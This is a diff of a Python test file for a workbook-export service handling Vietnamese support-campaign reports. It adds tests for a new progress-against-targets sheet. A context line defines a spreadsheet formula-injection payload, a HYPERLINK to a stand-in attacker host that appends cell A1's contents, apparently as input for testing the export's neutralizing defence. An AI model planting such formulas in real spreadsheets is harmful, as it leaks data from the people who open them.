@@ -12,7 +12,7 @@ from openpyxl import Workbook, load_workbook
 
 from service.workbook import export_rows, neutralize, put_text, render_export_csv, render_export_xlsx, \
     render_workbook
-from tests.unit.test_digest import CFG, DAY, YESTERDAY, at, make_cfg, model, msg, scenario, view_of
+from tests.unit.test_digest import CFG, DAY, YESTERDAY, at, make_cfg, model, msg, scenario, view_of, with_targets
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
@@ -219,3 +219,43 @@ def test_money_values_keep_every_dong_in_the_workbook():
     messages = [msg("BHXH", at(DAY, 8), {("ngung_viec", "kinh_phi"): 1_234_567})]
     _, wb = book(messages=messages)
     assert wb["Tổng hợp"]["E9"].value == pytest.approx(1.234567)
+
+
+# -- progress against the campaign's targets ------------------------------------------------------
+
+def test_progress_sheet_after_the_totals_with_ratios_formatted_as_percent():
+    _, wb = book(with_targets())
+    assert wb.sheetnames[:3] == ["Tổng hợp", "Tiến độ", "Tình hình báo cáo"]
+    ws = wb["Tiến độ"]
+    assert ws["A1"].value == "TIẾN ĐỘ SO VỚI KẾ HOẠCH NGÀY 11/08/2021"
+    assert ws["A2"].value == "Còn 14 ngày đến hạn 25/08/2021."
+    head = 5
+    assert [c.value for c in ws[head]] == ["STT", "Mã đơn vị", "Đơn vị", "Chỉ tiêu", "Cột", "Đã thực hiện",
+                                           "Kế hoạch", "Tỷ lệ"]
+    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=head + 1)]
+    # campaign totals first, then each unit's cells; money in triệu đồng as on the other sheets
+    assert [r[1:] for r in rows] == [
+        [None, "Tổng cộng", "Hỗ trợ người lao động ngừng việc", "Số đối tượng đề nghị hỗ trợ", 1284, 2040,
+         pytest.approx(1284 / 2040)],
+        [None, "Tổng cộng", "Hỗ trợ người lao động ngừng việc", "Kinh phí được phê duyệt (triệu đồng)", 1234.5, 1500,
+         pytest.approx(0.823)],
+        [None, "Tổng cộng", "Hỗ trợ hộ kinh doanh", "Số đối tượng đề nghị hỗ trợ", 47, 100, pytest.approx(0.47)],
+        ["BHXH", "Bảo hiểm xã hội thành phố", "Hỗ trợ người lao động ngừng việc", "Số đối tượng đề nghị hỗ trợ",
+         1234, 2000, pytest.approx(0.617)],
+        ["BHXH", "Bảo hiểm xã hội thành phố", "Hỗ trợ người lao động ngừng việc",
+         "Kinh phí được phê duyệt (triệu đồng)", 1234.5, 1500, pytest.approx(0.823)],
+        ["YTE", "Phòng Y tế", "Hỗ trợ hộ kinh doanh", "Số đối tượng đề nghị hỗ trợ", 40, 80, 0.5],
+        ["SONG_CAU", "UBND phường Sông Cầu", "Hỗ trợ người lao động ngừng việc", "Số đối tượng đề nghị hỗ trợ",
+         50, 40, 1.25],
+    ]
+    assert {ws.cell(r, 8).number_format for r in range(head + 1, ws.max_row + 1)} == {"0.0%"}
+    assert ws.cell(head + 2, 6).number_format == "#,##0.0#" and ws.cell(head + 1, 6).number_format == "#,##0"
+    assert ws.cell(head + 7, 8).fill.fgColor.rgb.endswith("E6F4EA")  # SONG_CAU is past its target
+    assert ws.cell(head + 6, 3).font.i  # YTE's figures are from yesterday
+    assert ws.freeze_panes == "D6" and ws.auto_filter.ref == "A5:H12"
+
+
+def test_progress_sheet_in_english():
+    _, wb = book(with_targets(make_cfg("en")))
+    assert wb.sheetnames[1] == "Progress" and wb["Progress"]["H5"].value == "Progress"
+    assert wb["Progress"]["A2"].value == "14 days left until the 25/08/2021 deadline."
